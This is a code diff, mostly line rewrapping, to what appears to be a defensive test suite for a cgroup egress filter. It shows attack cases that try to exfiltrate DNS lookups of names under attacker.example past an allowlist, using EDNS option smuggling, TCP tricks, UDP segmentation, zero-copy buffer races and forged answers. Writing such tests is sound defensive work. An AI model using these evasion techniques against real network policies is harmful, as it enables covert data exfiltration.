@@ -83,7 +83,8 @@ def dns_pointer(t):
         leaves="EDNS options go as far as the resolver, which passes none on")
 def dns_option(t):
     option = struct.pack("!HH", 65001, 8) + t.marker
-    ask(t, craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option))
+    ask(t,
+        craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option))
 
 
 @dns("an answer in place of a query")
@@ -113,7 +114,8 @@ def dns_tcp(t):
     t.connected(t.resolver, 53).send(struct.pack("!H", len(data)) + data)
 
 
-@attack(DNS, "an allowed name first and another second on one TCP connection", "cgroup", "dns-name-not-allowed", families=(4,))
+@attack(DNS, "an allowed name first and another second on one TCP connection", "cgroup", "dns-name-not-allowed",
+        families=(4,))
 def dns_tcp_second(t):
     s = t.connected(t.resolver, 53)
     for name in (ALLOWED, t.label + ".attacker.example"):
@@ -128,7 +130,8 @@ def dns_tcp_nonsense(t):
     t.connected(t.resolver, 53).send(b"\0\x08" + t.marker)
 
 
-@attack(DNS, "urgent data on TCP port 53 of the resolver, which it would not see", "cgroup", "dns-malformed", families=(4,))
+@attack(DNS, "urgent data on TCP port 53 of the resolver, which it would not see", "cgroup", "dns-malformed",
+        families=(4,))
 def dns_tcp_urgent(t):
     s = t.connected(t.resolver, 53)
     data = craft.query(ALLOWED)
@@ -169,22 +172,26 @@ def dns_over_https(t):
     t.connected(PUBLIC[t.family], 443).send(craft.hello(t.marker, craft.server_name("dns.google")))
 
 
-@attack(DNS, "queries that the kernel cuts from one datagram, the second for the attacker's name", "cgroup", "dns-malformed", families=(4,))
+@attack(DNS, "queries that the kernel cuts from one datagram, the second for the attacker's name", "cgroup",
+        "dns-malformed", families=(4,))
 def dns_segmented(t):
     first, second = craft.query(ALLOWED), craft.query(t.label + ".attacker.example")
     option = struct.pack("!HH", 65001, len(second)) + second
-    head = craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option))) + option[:4]
+    edns = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option))
+    head = craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=edns) + option[:4]
     s = t.socket()
     s.setsockopt(socket.IPPROTO_UDP, 103, len(head))
     s.sendto(head + second, (t.resolver, 53))
 
 
-@attack(DNS, "a query whose memory (MSG_ZEROCOPY) another thread changes behind the look", "cgroup", "shared-pages", families=(4,))
+@attack(DNS, "a query whose memory (MSG_ZEROCOPY) another thread changes behind the look", "cgroup", "shared-pages",
+        families=(4,))
 def dns_zerocopy_changed(t):
     sent = craft.query(f"{t.label}.{t.label}.attacker.example")
     seen = craft.query(ALLOWED)
     option = len(sent) - len(seen) - 11 - 4
-    seen = craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, option + 4, 65001, option) + bytes(option))
+    seen = craft.query(ALLOWED, counts=(1, 0, 0, 1),
+                       tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, option + 4, 65001, option) + bytes(option))
     page = mmap.mmap(-1, 4096)
     page[:len(seen)] = seen
     s = t.socket()
@@ -224,8 +231,8 @@ def reap(s):
 
 # ---- forged answers teach addresses ----
 
-@attack(DNS, "an answer that the attacker forges itself, through a TUN device", "cgroup", "address-not-allowed", families=(4,),
-        caps=("NET_ADMIN",))
+@attack(DNS, "an answer that the attacker forges itself, through a TUN device", "cgroup", "address-not-allowed",
+        families=(4,), caps=("NET_ADMIN",))
 def dns_forged_by_tun(t):
     from kernel import tun
     from link import tool
@@ -235,8 +242,8 @@ def dns_forged_by_tun(t):
     forge(t, lambda packet: os.write(fd, packet))
 
 
-@attack(DNS, "an answer that a container forges for a process on the host network", "cgroup", "address-not-allowed", families=(4,),
-        where="both")
+@attack(DNS, "an answer that a container forges for a process on the host network", "cgroup", "address-not-allowed",
+        families=(4,), where="both")
 def dns_forged_by_box(t):
     from link import ether
     forge(t, lambda packet: t.box.send(ether(t, packet)))
@@ -317,8 +324,8 @@ def dhcp6_attacker(t):
     dhcp(t, t.to, 546, 547)
 
 
-@attack(OTHER, "a datagram to a private address's port 67 from another port than a DHCP client's", "cgroup", "protocol-not-allowed",
-        families=(4,))
+@attack(OTHER, "a datagram to a private address's port 67 from another port than a DHCP client's", "cgroup",
+        "protocol-not-allowed", families=(4,))
 def dhcp_other_port(t):
     dhcp(t, "10.0.0.10", 6868, 67)
 
